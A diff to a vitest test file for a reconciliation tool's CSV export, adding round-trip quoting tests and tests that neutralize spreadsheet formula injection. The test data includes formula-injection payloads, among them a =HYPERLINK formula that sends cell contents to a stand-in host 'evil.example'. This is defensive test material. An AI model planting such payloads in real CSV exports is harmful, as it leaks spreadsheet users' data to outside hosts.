@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { formatAxisAmount, renderBalanceChartSvg, scaleBigInt } from '../../src/reconciliation/balance-chart-svg.js';
-import { CSV_COLUMNS, quoteCsvField, renderCsv } from '../../src/reconciliation/render-csv.js';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { CSV_COLUMNS, neutralizeFormula, renderCsv } from '../../src/reconciliation/render-csv.js';
 import { renderHtml } from '../../src/reconciliation/render-html.js';
 import { renderJson } from '../../src/reconciliation/render-json.js';
 import { renderTable } from '../../src/reconciliation/render-table.js';
@@ -95,11 +96,35 @@ describe('table', () => {
 });
 
 describe('csv', () => {
-  it('quotes per RFC 4180 only when needed', () => {
-    expect(quoteCsvField('plain')).toBe('plain');
-    expect(quoteCsvField('a,b')).toBe('"a,b"');
-    expect(quoteCsvField('say "hi"')).toBe('"say ""hi"""');
-    expect(quoteCsvField('two\nlines')).toBe('"two\nlines"');
+  it('quotes per RFC 4180 only when needed, and reads back to the same fields', () => {
+    const awkward = summarizeResults({ from: '2026-11-20', to: '2026-11-20' }, [result({ account: 'a,b "c"\nd' })]);
+    const text = renderCsv(awkward);
+    expect(text.split('\r\n')[1]).toMatch(/^"a,b ""c""\nd",2026-11-20,EUR,100,/);
+    expect((parseCsv(text) as string[][])[1]![0]).toBe('a,b "c"\nd');
+  });
+
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
+    ['+cmd', "'+cmd"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['-100', '-100'],
+    ['+5', '+5'],
+    ['-12.50', '-12.50'],
+    ['eu-main', 'eu-main'],
+  ])('neutralizes a formula cell %j → %j, numbers untouched', (cell, expected) => {
+    expect(neutralizeFormula(cell)).toBe(expected);
+  });
+
+  it('writes a =HYPERLINK account name as inert text, and negative amounts as numbers', () => {
+    const hostile = summarizeResults({ from: '2026-11-20', to: '2026-11-20' }, [
+      result({ account: '=HYPERLINK("http://evil.example","x")', difference: -100n, movement: -5n, previousBalance: 105n, status: 'break' }),
+    ]);
+    const [, row] = parseCsv(renderCsv(hostile)) as string[][];
+    expect(row![0]).toBe(`'=HYPERLINK("http://evil.example","x")`);
+    expect(row![CSV_COLUMNS.indexOf('difference')]).toBe('-100');
+    expect(row![CSV_COLUMNS.indexOf('movement')]).toBe('-5');
   });
 
   it('writes one header line and one CRLF line per result with every column, amounts exact', () => {
